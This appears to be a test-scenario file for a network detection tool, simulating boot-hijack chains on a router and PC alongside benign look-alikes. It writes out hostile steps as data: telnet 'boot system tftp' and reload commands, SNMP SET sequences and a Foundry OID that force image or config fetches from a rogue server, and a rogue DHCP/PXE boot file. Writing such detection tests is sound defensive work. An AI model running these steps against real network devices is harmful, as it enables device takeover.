@@ -1,0 +1,204 @@
+"""BW30: several stages of a hijack on one device, and the stories that only look like one."""
+
+from __future__ import annotations
+
+from ipaddress import IPv4Address
+
+from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.sites import HQ
+from bootwarden.traffic import smart_install as smi
+from bootwarden.traffic import snmp, syslog, tftp
+from bootwarden.traffic.dhcp import Client, addresses
+from bootwarden.traffic.images import config, efi, ios
+from bootwarden.traffic.telnet import Telnet
+from bootwarden.traffic.wire import Tcp, Wire
+
+DEVICE, OTHER, PC = "10.0.1.1", "10.0.1.2", "10.0.4.20"
+ATTACKER, ROGUE, ADMIN, SERVER = "10.0.6.6", "10.0.6.66", "10.0.9.10", "10.0.0.5"
+APPROVED = "c2900-universalk9-mz.SPA.157-3.M8.bin"
+EVIL = "c2960-lanbasek9-mz.150-2.SE11.bin"
+EVIL_IMAGE = ios(EVIL, "15.0(2)SE11", "C2960", 3000, "hijack")
+FOUNDRY_BOOT = "1.3.6.1.4.1.1991.1.1.2.4.1.1"
+
+
+def hijack(device: str, file: str, server: str = ROGUE) -> Notice:
+    """The notice of the chain; it names what completed it."""
+    return Notice("Netboot_Hijack", device, server, file)
+
+
+def rogue_image(device: str, file: str = EVIL) -> tuple[Notice, Notice]:
+    """What an image that nobody approved, from a server that nobody declared, raises by itself."""
+    return (
+        Notice("Unauthorized_Boot_Server", device, ROGUE, file),
+        Notice("Unapproved_Image", device, ROGUE, file),
+    )
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "tar_imglist0.txt"), hijack(DEVICE, EVIL))),
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Smart_Install_Command", DEVICE, ROGUE, "tar_imglist0.txt"),
+            *rogue_image(DEVICE),
+            hijack(DEVICE, EVIL),
+        )
+    ),
+)
+def bw30_smart_install(wire: Wire) -> None:
+    """A switch is told by Smart Install to take an image, and takes it."""
+    tcp = Tcp(wire, ROGUE, 50786, DEVICE, smi.PORT)
+    tcp.send(smi.image(f"tftp://{ROGUE}/tar_imglist0.txt"))
+    tcp.close()
+    wire.wait(2)
+    tftp.read(wire, DEVICE, ROGUE, "tar_imglist0.txt", EVIL.encode() + b"\n", client_port=50001)
+    wire.wait(1)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50002, server_port=32769)
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("SNMP_Config_Copy", DEVICE, ROGUE, "evil-confg"),
+            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "evil-confg"),
+            hijack(DEVICE, "evil-confg"),
+            Notice("Boot_Config_Served", DEVICE, ROGUE, "evil-confg"),
+            *rogue_image(DEVICE),
+        )
+    ),
+)
+def bw30_snmp_row_config_image(wire: Wire) -> None:
+    """An SNMP row built over several SETs fetches a configuration, which fetches an image an hour later."""
+    manager = snmp.Manager(wire, ATTACKER, DEVICE)
+    for columns in ({14: 5}, {3: 1, 4: 3}, {2: 1, 5: IPv4Address(ROGUE)}, {6: "evil-confg"}, {14: 1}):
+        manager.set(*snmp.row(snmp.CONFIG_COPY, 9999, columns))  # type: ignore[arg-type]
+    wire.wait(1)
+    text = config("edge1", (f"boot system tftp://{ROGUE}/{EVIL}",))
+    tftp.read(wire, DEVICE, ROGUE, "evil-confg", text, client_port=50001)
+    wire.wait(3600)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50002, server_port=32769)
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Rogue_Boot_Options", PC, ROGUE, "evil.efi"),
+            *rogue_image(PC, "evil.efi"),
+            hijack(PC, "evil.efi"),
+        )
+    ),
+)
+def bw30_rogue_dhcp_pxe(wire: Wire) -> None:
+    """A rogue DHCP server leases an address with a boot file, which the PC then loads."""
+    client = Client(wire, PC, vendor_class="PXEClient:Arch:00007:UNDI:003016")
+    client.lease(
+        ROGUE, [(66, ROGUE), (67, "evil.efi"), (1, addresses("255.255.0.0"))], siaddr=ROGUE, file=b"evil.efi"
+    )
+    tftp.read(wire, PC, ROGUE, "evil.efi", efi(3000), offer={"tsize": 0, "blksize": 1468})
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Boot_Command", DEVICE, ROGUE, EVIL),
+            Notice("Remote_Reload", DEVICE),
+            *rogue_image(DEVICE),
+            hijack(DEVICE, EVIL),
+        )
+    ),
+)
+def bw30_telnet_reload_image(wire: Wire) -> None:
+    """A boot command and a reload by telnet, then the image."""
+    session = Telnet(wire, ATTACKER, DEVICE)
+    session.login()
+    session.typed("conf t")
+    session.typed(f"boot system tftp {EVIL} {ROGUE}")
+    session.typed("end")
+    session.typed("reload", "Proceed with reload? [confirm]", prompt="")
+    session.typed("", "")
+    session.close()
+    wire.wait(90)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    site=HQ,
+    with_site=Expect(
+        (Notice("SNMP_Image_Copy", DEVICE, ROGUE, EVIL), *rogue_image(DEVICE), hijack(DEVICE, EVIL))
+    ),
+)
+def bw30_foundry_one_set(wire: Wire) -> None:
+    """One SET makes a Foundry switch boot from TFTP, and it does 23 hours later."""
+    columns = {2: 3, 3: IPv4Address(ROGUE), 4: EVIL, 5: 4}
+    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(FOUNDRY_BOOT, 1, columns))
+    wire.wait(23 * 3600)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario("BW30", "benign", site=HQ, with_site=Expect())
+def bw30_approved_upgrade(wire: Wire) -> None:
+    """An admin host orders the approved image from the declared server, reloads the router, and it restarts."""
+    session = Telnet(wire, ADMIN, DEVICE)
+    session.login(user="anna")
+    session.typed(f"copy tftp://{SERVER}/{APPROVED} flash:", "Destination filename [x]?", prompt="")
+    session.typed("", "")
+    tftp.read(wire, DEVICE, SERVER, APPROVED, ios())
+    session.typed("reload", "Proceed with reload? [confirm]", prompt="")
+    session.typed("", "")
+    session.close()
+    wire.wait(180)
+    syslog.ios(
+        wire,
+        DEVICE,
+        "%SYS-5-RESTART: System restarted --\nCisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), "
+        "Version 15.7(3)M8, RELEASE SOFTWARE (fc1)",
+        sequence=30,
+    )
+    snmp.trap_v2(wire, DEVICE, "10.0.9.20", snmp.COLD_START)
+
+
+@scenario("BW30", "benign", site=HQ, with_site=Expect(rogue_image(DEVICE)))
+def bw30_one_stage_alone(wire: Wire) -> None:
+    """One image from a rogue server, and no other stage."""
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario(
+    "BW30",
+    "benign",
+    site=HQ,
+    with_site=Expect((Notice("SNMP_Config_Copy", DEVICE, ROGUE, "evil-confg"), *rogue_image(OTHER))),
+)
+def bw30_two_devices(wire: Wire) -> None:
+    """One device is redirected, another one fetches."""
+    columns = {2: 1, 3: 1, 4: 4, 5: IPv4Address(ROGUE), 6: "evil-confg", 14: 4}
+    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(snmp.CONFIG_COPY, 111, columns))
+    wire.wait(60)
+    tftp.read(wire, OTHER, ROGUE, EVIL, EVIL_IMAGE)
+
+
+@scenario(
+    "BW30",
+    "benign",
+    site=HQ,
+    with_site=Expect((Notice("SNMP_Image_Copy", DEVICE, ROGUE, EVIL), *rogue_image(DEVICE))),
+)
+def bw30_too_far_apart(wire: Wire) -> None:
+    """The stages lie 25 hours apart."""
+    columns = {2: 3, 3: IPv4Address(ROGUE), 4: EVIL, 5: 4}
+    snmp.Manager(wire, ATTACKER, DEVICE).set(*snmp.row(FOUNDRY_BOOT, 1, columns))
+    wire.wait(25 * 3600)
+    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)
